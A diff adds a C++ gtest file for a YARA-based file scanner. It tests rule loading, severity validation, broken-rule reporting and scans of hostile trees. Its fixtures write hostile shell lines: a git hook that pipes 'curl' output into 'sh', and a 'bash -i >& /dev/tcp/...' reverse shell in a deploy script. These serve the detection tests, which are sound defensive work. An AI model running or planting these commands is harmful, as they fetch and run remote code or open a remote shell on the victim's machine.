@@ -1,0 +1,238 @@
+// Loading rules from both folders: broken files and rules without a proper severity are named and
+// skipped while everything else loads, user rules are picked up, and the audit command copes with the
+// trees it is pointed at.
+
+#include "ScanRunner.h"
+
+#include <gtest/gtest.h>
+#include <set>
+#include <sys/stat.h>
+
+namespace fs = std::filesystem;
+using namespace tw::test;
+
+namespace {
+
+const char* kUserRule = R"(rule user_marker_file
+{
+    meta:
+        severity = "high"
+    condition:
+        filename == "marker.txt"
+}
+)";
+
+const char* kBrokenRule = R"(rule broken_rule
+{
+    meta:
+        severity = "high"
+    strings:
+        $a = "x"
+    condition:
+        $a and and
+}
+)";
+
+bool hasEvent(const ScanResult& r, const std::string& rule, const std::string& severity)
+{
+    for (const auto& e : r.events)
+        if (e.rule == rule && e.severity == severity)
+            return true;
+    return false;
+}
+
+class RulesLoading : public ::testing::Test
+{
+protected:
+    void SetUp() override
+    {
+        useConfigHome(m_config.path());
+        writeFile(m_tree / "marker.txt", "hello\n");
+        fs::create_directories(m_tree / ".git" / "hooks");
+        writeFile(m_tree / ".git" / "hooks" / "post-merge", "#!/bin/sh\ncurl -s https://e.example/x | sh\n");
+    }
+    TempDir m_config;
+    TempDir m_tree;
+};
+
+TEST_F(RulesLoading, UserRuleInConfigFolderIsPickedUp)
+{
+    writeUserRule(m_config.path(), "mine.yar", kUserRule);
+    const ScanResult r = runTwwatch({"--scan", m_tree.path().string()});
+    EXPECT_EQ(r.process.exitCode, 0) << r.process.err;
+    EXPECT_TRUE(hasEvent(r, "user_marker_file", "high")) << r.process.out;
+    EXPECT_TRUE(hasEvent(r, "git_hook_runs_payload", "critical")) << "the bundled pack still loads";
+}
+
+TEST_F(RulesLoading, UserRuleUnderHomeWhenXdgConfigHomeIsUnset)
+{
+    ::unsetenv("XDG_CONFIG_HOME");
+    TempDir home;
+    const std::string oldHome = ::getenv("HOME") ? ::getenv("HOME") : "";
+    ::setenv("HOME", home.path().c_str(), 1);
+    writeUserRule(home / ".config", "mine.yara", kUserRule);
+    const ScanResult r = runTwwatch({"--scan", m_tree.path().string()});
+    ::setenv("HOME", oldHome.c_str(), 1);
+    EXPECT_TRUE(hasEvent(r, "user_marker_file", "high")) << r.process.out << r.process.err;
+}
+
+TEST_F(RulesLoading, BrokenFileIsNamedWithYarasMessageAndSkipped)
+{
+    writeUserRule(m_config.path(), "a-broken.yar", kBrokenRule);
+    writeUserRule(m_config.path(), "b-good.yar", kUserRule);
+
+    const ScanResult check = runTwwatch({"--check-rules"});
+    EXPECT_EQ(check.process.exitCode, 1) << "a refused file makes the check fail";
+    const std::string broken = (m_config / "tarnwick/rules/a-broken.yar").string();
+    EXPECT_NE(check.process.err.find(broken + ":8: syntax error"), std::string::npos) << check.process.err;
+    EXPECT_NE(check.process.out.find(broken + ": not loaded"), std::string::npos) << check.process.out;
+    EXPECT_NE(check.process.out.find("  user_marker_file\n"), std::string::npos) << check.process.out;
+    EXPECT_NE(check.process.out.find("  git_hook_runs_payload\n"), std::string::npos) << check.process.out;
+
+    const ScanResult r = runTwwatch({"--scan", m_tree.path().string()});
+    EXPECT_EQ(r.process.exitCode, 0);
+    EXPECT_NE(r.process.err.find(broken), std::string::npos);
+    EXPECT_TRUE(hasEvent(r, "user_marker_file", "high")) << r.process.out;
+    EXPECT_TRUE(hasEvent(r, "git_hook_runs_payload", "critical")) << r.process.out;
+}
+
+TEST_F(RulesLoading, RulesWithoutAProperSeverityAreRefused)
+{
+    struct Row
+    {
+        const char* name;
+        const char* meta;
+        bool accepted;
+    };
+    const Row rows[] = {
+        {"no_meta_at_all", "", false},
+        {"other_meta_only", "author = \"x\"", false},
+        {"capitalised", "severity = \"High\"", false},
+        {"unknown_word", "severity = \"info\"", false},
+        {"padded", "severity = \"high \"", false},
+        {"not_a_string", "severity = 3", false},
+        {"critical_ok", "severity = \"critical\"", true},
+        {"high_ok", "severity = \"high\"", true},
+        {"warning_ok", "severity = \"warning\"", true},
+    };
+    std::string text;
+    for (const auto& row : rows) {
+        text += std::string("rule ") + row.name + " { " +
+                (*row.meta ? std::string("meta: ") + row.meta + " " : "") +
+                "condition: filename == \"marker.txt\" }\n";
+    }
+    writeUserRule(m_config.path(), "mixed.yar", text);
+
+    const ScanResult check = runTwwatch({"--check-rules"});
+    EXPECT_EQ(check.process.exitCode, 1);
+    const ScanResult r = runTwwatch({"--scan", m_tree.path().string()});
+    for (const auto& row : rows) {
+        SCOPED_TRACE(row.name);
+        bool fired = false;
+        for (const auto& e : r.events)
+            fired = fired || e.rule == row.name;
+        EXPECT_EQ(fired, row.accepted) << r.process.out;
+        const bool named =
+            check.process.err.find(std::string("rule ") + row.name + " refused") != std::string::npos;
+        EXPECT_EQ(named, !row.accepted) << check.process.err;
+    }
+    EXPECT_TRUE(hasEvent(r, "git_hook_runs_payload", "critical")) << "other files are untouched";
+}
+
+TEST_F(RulesLoading, SameRuleNameInTwoFilesLoadsBoth)
+{
+    writeUserRule(m_config.path(), "one.yar", kUserRule);
+    writeUserRule(m_config.path(), "two.yar", kUserRule);
+    const ScanResult r = runTwwatch({"--scan", m_tree.path().string()});
+    int count = 0;
+    for (const auto& e : r.events)
+        count += e.rule == "user_marker_file";
+    EXPECT_EQ(count, 2) << r.process.out << r.process.err;
+}
+
+// The bundled pack is found beside the executable through /proc/self/exe, wherever that is.
+TEST_F(RulesLoading, BundledPackBesideTheExecutable)
+{
+    TempDir install;
+    fs::create_directories(install / "bin" / "rules");
+    fs::copy_file(twwatchBinary(), install / "bin" / "twwatch");
+    writeFile(install / "bin" / "rules" / "good.yar", kUserRule);
+    writeFile(install / "bin" / "rules" / "broken.yar", kBrokenRule);
+    writeFile(install / "bin" / "rules" / "notes.txt", "not a rule file");
+
+    const ScanResult check = runTwwatch({"--check-rules"}, install / "bin" / "twwatch");
+    EXPECT_NE(check.process.err.find((install / "bin/rules/broken.yar").string()), std::string::npos)
+        << check.process.err;
+    EXPECT_NE(check.process.out.find("1 rules loaded from 2 files"), std::string::npos) << check.process.out;
+
+    const ScanResult r = runTwwatch({"--scan", m_tree.path().string()}, install / "bin" / "twwatch");
+    ASSERT_EQ(r.events.size(), 1u) << r.process.out;
+    EXPECT_EQ(r.events[0].rule, "user_marker_file");
+}
+
+TEST_F(RulesLoading, NoRuleFolderIsReportedAndNothingMatches)
+{
+    TempDir install;
+    fs::copy_file(twwatchBinary(), install / "twwatch");
+    const ScanResult check = runTwwatch({"--check-rules"}, install / "twwatch");
+    EXPECT_EQ(check.process.exitCode, 1);
+    EXPECT_NE(check.process.err.find("no rule folder at " + (install / "rules").string()), std::string::npos);
+    const ScanResult r = runTwwatch({"--scan", m_tree.path().string()}, install / "twwatch");
+    EXPECT_EQ(r.process.exitCode, 0);
+    EXPECT_TRUE(r.events.empty()) << r.process.out;
+}
+
+TEST_F(RulesLoading, ScanGoesOnPastAMissingDirectory)
+{
+    const ScanResult r = runTwwatch({"--scan", (m_tree / "nowhere").string(), m_tree.path().string()});
+    EXPECT_EQ(r.process.exitCode, 2);
+    EXPECT_NE(r.process.err.find("nowhere"), std::string::npos) << r.process.err;
+    EXPECT_TRUE(hasEvent(r, "git_hook_runs_payload", "critical")) << r.process.out;
+}
+
+// FIFOs and devices are declined without blocking, a link loop is not followed, git's object store is
+// pruned like the watcher prunes it, and relative roots come out as absolute paths.
+TEST_F(RulesLoading, ScanOfAHostileTreeEndsAndPrunes)
+{
+    ASSERT_EQ(::mkfifo((m_tree / ".git" / "hooks" / "pre-commit").c_str(), 0755), 0);
+    fs::create_directory_symlink(m_tree.path(), m_tree / "loop");
+    fs::create_symlink("/dev/zero", m_tree / "zero.js");
+    fs::create_directories(m_tree / ".git" / "objects" / "ab");
+    writeFile(m_tree / ".git" / "objects" / "ab" / "deploy.sh",
+              "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n");
+    fs::create_directories(m_tree / "scripts");
+    writeFile(m_tree / "scripts" / "deploy.sh", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n");
+
+    const ScanResult r = runTwwatch({"--scan", m_tree.path().string()});
+    ASSERT_EQ(r.process.exitCode, 0) << "the scan hung or failed: " << r.process.err;
+    std::set<std::string> paths;
+    for (const auto& e : r.events)
+        paths.insert(e.path + " " + e.rule);
+    const std::set<std::string> expected{(m_tree / ".git/hooks/post-merge").string() +
+                                             " git_hook_runs_payload",
+                                         (m_tree / "scripts/deploy.sh").string() + " reverse_shell"};
+    EXPECT_EQ(paths, expected) << r.process.out;
+
+    const ProcessResult relative =
+        runProcess({twwatchBinary().string(), "--scan", "scripts"}, {}, m_tree.path());
+    bool decoded = true;
+    const auto events = decodeEvents(relative.out, decoded);
+    ASSERT_EQ(events.size(), 1u) << relative.out << relative.err;
+    EXPECT_EQ(events[0].path, (m_tree / "scripts/deploy.sh").string());
+}
+
+TEST_F(RulesLoading, ScanOutputIsTheSameOnEveryRun)
+{
+    for (int i = 0; i < 300; ++i) {
+        fs::create_directories(m_tree / ("pkg" + std::to_string(i % 17)));
+        writeFile(m_tree / ("pkg" + std::to_string(i % 17)) / ("marker.txt"), "x");
+        writeFile(m_tree / ("pkg" + std::to_string(i % 17)) / ("f" + std::to_string(i) + ".txt"), "x");
+    }
+    writeUserRule(m_config.path(), "mine.yar", kUserRule);
+    const ScanResult first = runTwwatch({"--scan", m_tree.path().string()});
+    const ScanResult second = runTwwatch({"--scan", m_tree.path().string()});
+    EXPECT_EQ(first.events.size(), 19u);
+    EXPECT_EQ(first.process.out, second.process.out);
+}
+
+} // namespace
